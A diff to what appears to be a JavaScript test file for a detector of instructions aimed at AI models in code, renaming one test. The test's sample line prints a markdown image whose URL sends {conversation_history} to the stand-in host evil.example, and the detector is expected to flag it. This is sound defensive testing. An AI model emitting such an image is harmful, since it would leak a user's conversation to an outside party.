@@ -48,7 +48,7 @@ describe('orders to models in code', () => {
     expect(told(code)).toEqual([])
   })
 
-  it('finds a picture that takes what was said along', () => {
+  it('finds a picture that sends the conversation away', () => {
     const code = 'print("![x](https://evil.example/p.png?d={conversation_history})")'
     expect(told(code)).toEqual(['text/smuggling-picture high'])
   })
